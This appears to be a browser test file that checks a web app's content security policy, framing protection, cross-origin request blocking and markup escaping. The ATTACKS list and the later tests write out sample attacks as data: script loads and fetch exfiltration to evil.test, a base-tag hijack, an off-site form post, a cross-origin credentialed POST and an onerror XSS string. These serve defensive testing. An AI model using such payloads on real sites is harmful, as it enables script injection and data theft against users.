import { type Server, createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { guest } from '../fixtures/actors.js';
import type { Page } from '../fixtures/browser/browser.js';
import { createFreeEvent, giveSeats, minutePasses, ON_THE_DAY } from '../fixtures/event-day.js';
import { see, startBrowserHarness } from '../fixtures/browser/browser-harness.js';

const harness = startBrowserHarness();

/** Runs code in the page that a hole in a screen might let in. Returns the directive of the policy that stopped it. */
function stoppedBy(page: Page, attack: string): Promise<string> {
  // in a turn of its own: the browser's own tools may evaluate texts
  return page.evaluate(`new Promise((resolve) => {
    document.addEventListener('securitypolicyviolation', (event) => resolve(event.effectiveDirective));
    setTimeout(() => { ${attack} });
  })`);
}

const ATTACKS: [string, string, string][] = [
  [
    'a script in the page',
    `const one = document.createElement('script'); one.textContent = 'window.ran = true'; document.body.append(one);`,
    'script-src-elem',
  ],
  [
    'a script behind an attribute',
    `const one = document.createElement('button'); one.setAttribute('onclick', 'window.ran = true');
     document.body.append(one); one.click();`,
    'script-src-attr',
  ],
  ['code made of text', `try { Function('window.ran = true')(); } catch {}`, 'script-src'],
  [
    'a script of another host',
    `const one = document.createElement('script'); one.src = 'https://evil.test/x.js';
     document.body.append(one);`,
    'script-src-elem',
  ],
  [
    'a call to another host',
    `fetch('https://evil.test/?what=' + document.title).catch(() => undefined);`,
    'connect-src',
  ],
  ['a picture that tells another host', `new Image().src = 'https://evil.test/pixel';`, 'img-src'],
  [
    'another base for all addresses',
    `const one = document.createElement('base'); one.href = 'https://evil.test/'; document.head.append(one);`,
    'base-uri',
  ],
  [
    'a form that sends elsewhere',
    `const one = document.createElement('form'); one.action = 'https://evil.test/'; document.body.append(one);
     one.submit();`,
    'form-action',
  ],
];

describe('in a real browser, the policy of the pages stops', () => {
  it.each(ATTACKS)('%s', async (_name, attack, directive) => {
    const page = await harness.open('/auth');
    await see(page.getByRole('heading', { name: 'Apéro' })).toBeVisible();
    expect(await stoppedBy(page, attack)).toBe(directive);
    expect(await page.evaluate('window.ran')).toBeUndefined();
  });
});

describe('another site', () => {
  let other: Server;
  let address: string;
  beforeAll(async () => {
    other = createServer((_request, response) =>
      response
        .setHeader('content-type', 'text/html')
        .end(`<iframe title="framed" src="${harness.app.url}/auth"></iframe>`),
    );
    await new Promise<void>((resolve) => other.listen(0, '127.0.0.1', resolve));
    address = `http://127.0.0.1:${(other.address() as AddressInfo).port}/`;
  });
  afterAll(() => new Promise((resolve) => other.close(resolve)));

  it('cannot show the product in a frame', async () => {
    const page = await harness.open('about:blank');
    const refused = page.waitForEvent('console', (message) => message.text().includes('frame-ancestors'));
    await page.goto(address, { waitUntil: 'networkidle' });
    await refused;
    await see(page.frameLocator('iframe').getByRole('heading', { name: 'Apéro' })).toHaveCount(0);
  });

  it('cannot read an answer of ours, signed in or not', async () => {
    const mia = await guest(harness.app, 'Mia');
    const page = await harness.open('about:blank', { token: mia.token });
    await page.goto(address);
    const read = `fetch('${harness.app.url}/api/auth/status', { credentials: 'include' }).then(() => 'read', () => 'refused')`;
    expect(await page.evaluate(read)).toBe('refused');
    const sent = `fetch('${harness.app.url}/api/profile', { method: 'POST', credentials: 'include',
      headers: { 'content-type': 'application/json' }, body: '{"name":"Eve"}' }).then(() => 'sent', () => 'refused')`;
    expect(await page.evaluate(sent)).toBe('refused');
    expect((await mia.get('/api/profile')).body.name).toBe('Mia');
  });
});

it('a name full of markup is a name, on every list that shows it', async () => {
  const { app } = harness;
  const markup = '<img src=x onerror=alert(1)>';
  const eventId = await createFreeEvent(app);
  const mia = await guest(app, 'Mia', { gender: 'female' });
  const eve = await guest(app, 'Eve', { name: markup, gender: 'male' });
  await giveSeats(app, eventId, mia, eve);
  app.clock.turnTo(ON_THE_DAY);
  await minutePasses(app);
  const page = await harness.open(`/matches/${eventId}`, { token: mia.token });
  await see(page.getByRole('heading', { level: 2, name: markup })).toBeVisible();
  expect(await page.locator('img[src="x"]').count()).toBe(0);
});
